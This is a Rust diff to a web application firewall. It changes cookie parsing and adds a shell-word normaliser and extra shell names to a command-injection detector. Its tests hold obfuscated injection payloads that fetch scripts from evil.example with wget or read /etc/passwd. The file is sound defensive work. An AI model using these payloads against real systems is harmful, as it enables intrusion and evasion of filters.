@@ -393,14 +393,14 @@ impl WafEngine for BuiltinEngine {
         }
         for value in ctx.headers.get_all(http::header::COOKIE) {
             for pair in String::from_utf8_lossy(value.as_bytes()).split(';') {
-                if let Some((name, value)) = pair.trim().split_once('=') {
-                    self.field(
-                        "cookie",
-                        &form_decode(name, false),
-                        &form_decode(value, false),
-                        &mut hits,
-                    );
-                }
+                // A cookie without `=` is a value with an empty name (RFC 6265bis).
+                let (name, value) = pair.trim().split_once('=').unwrap_or(("", pair.trim()));
+                self.field(
+                    "cookie",
+                    &form_decode(name, false),
+                    &form_decode(value, false),
+                    &mut hits,
+                );
             }
         }
         Ok(hits)
@@ -1245,6 +1245,45 @@ fn jndi(value: &str) -> bool {
     text.contains("${jndi:")
 }
 
+/// `raw` (lower case) as a shell reads it into words: `${IFS}` a space; other variables
+/// (`$x`, `${x}`, `$@`, `$*`), which an attacker leaves unset, empty; quotes and
+/// backslashes gone; a brace expansion `{a,b}` its words, space-separated.
+fn shell_word(raw: &str) -> String {
+    let mut out = String::with_capacity(raw.len());
+    let mut chars = raw.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' | '"' | '\\' => {}
+            '$' => match chars.peek() {
+                Some('{') => {
+                    let name: String = chars.by_ref().skip(1).take_while(|c| *c != '}').collect();
+                    if name == "ifs" {
+                        out.push(' ');
+                    }
+                }
+                Some('@' | '*') => {
+                    chars.next();
+                }
+                Some(c) if c.is_ascii_alphanumeric() || *c == '_' => {
+                    let mut name = String::new();
+                    while let Some(c) = chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_') {
+                        name.push(c);
+                    }
+                    if name == "ifs" {
+                        out.push(' ');
+                    }
+                }
+                _ => out.push('$'),
+            },
+            '{' if out.is_empty() => {}
+            '}' => {}
+            ',' if raw.starts_with('{') => out.push(' '),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
 /// A shell command chained into a value: after `;`, `|`, `&`, a newline, `$(`, `<(` or a
 /// backquote, a known command (also by full path, `/bin/cat`, and as a shell reads it
 /// through quotes, backslashes and `${IFS}`), then the end of the value, a closing `)`,
@@ -1252,8 +1291,13 @@ fn jndi(value: &str) -> bool {
 /// variable, a quote, a URL, a host name; a number for `sleep`). Prose that merely has a
 /// separator before a common word (`Tickets; id required`) does not match.
 fn shell_chain(value: &str) -> bool {
-    const COMMANDS: [&str; 56] = [
+    const COMMANDS: [&str; 61] = [
         "cat",
+        "dash",
+        "ksh",
+        "csh",
+        "tcsh",
+        "ash",
         "ls",
         "id",
         "whoami",
@@ -1339,23 +1383,22 @@ fn shell_chain(value: &str) -> bool {
         let word_end = after
             .find(|c: char| c.is_whitespace() || matches!(c, ')' | '`' | ';' | '|' | '&'))
             .unwrap_or(after.len());
-        // The word as a shell reads it: quotes, backslashes and empty expansions removed
-        // (`w'h'o'am'i`, `i\d`, `who$@ami`); `${IFS}` is a space.
+        // The word as a shell reads it: quotes, backslashes and expansions of variables
+        // (unset: empty) removed (`w'h'o'am'i`, `i\d`, `who$@ami`, `w${u}get`); `${IFS}` is
+        // a space; a brace expansion `{wget,http://x}` is its words.
         let raw = &after[..word_end];
-        let spelled: Cow<str> = match raw.contains(['\'', '"', '\\', '$']) {
-            true => Cow::Owned(
-                raw.replace("$@", "")
-                    .replace("${ifs}", " ")
-                    .chars()
-                    .filter(|c| !matches!(c, '\'' | '"' | '\\'))
-                    .collect(),
-            ),
+        let spelled: Cow<str> = match raw.contains(['\'', '"', '\\', '$', '{']) {
+            true => Cow::Owned(shell_word(raw)),
             false => Cow::Borrowed(raw),
         };
         let word = spelled.split(' ').next().unwrap_or("");
         let command = word.rsplit('/').next().unwrap_or(word);
         if COMMANDS.contains(&command) {
-            let tail = &after[word_end..];
+            // After a brace expansion's first word come its others.
+            let tail = match raw.starts_with('{') {
+                true => &spelled[word.len()..],
+                false => &after[word_end..],
+            };
             let argument = tail.trim_start();
             if substitution
                 || argument.is_empty()
@@ -1420,6 +1463,19 @@ mod tests {
             Some("{\"a\":NaN,\"q\":\"<x> \u{1f600}\n\"}")
         );
         assert_eq!(json_unescaped("plain"), None);
+        // A shell's reading of a word: unset variables empty, `$IFS` a space, braces split.
+        assert_eq!(shell_word("w${u}get"), "wget");
+        assert_eq!(shell_word("cat$ifs$9/etc/passwd"), "cat /etc/passwd");
+        assert_eq!(shell_word("{wget,http://x/s.sh}"), "wget http://x/s.sh");
+        for attack in [
+            "x;{wget,http://evil.example/s.sh}",
+            "x;w${u}get http://evil.example/s",
+            "x;dash -c id",
+        ] {
+            assert!(shell_chain(attack), "{attack}");
+        }
+        assert!(!shell_chain("Tickets; id required at the door"));
+        assert!(!shell_chain("prices {low,high}; see below"));
         assert!(shell_chain("x; cat /etc/passwd") && shell_chain("$(id)"));
         assert!(!shell_chain("Tom & Jerry; a catalogue"));
         for attack in [
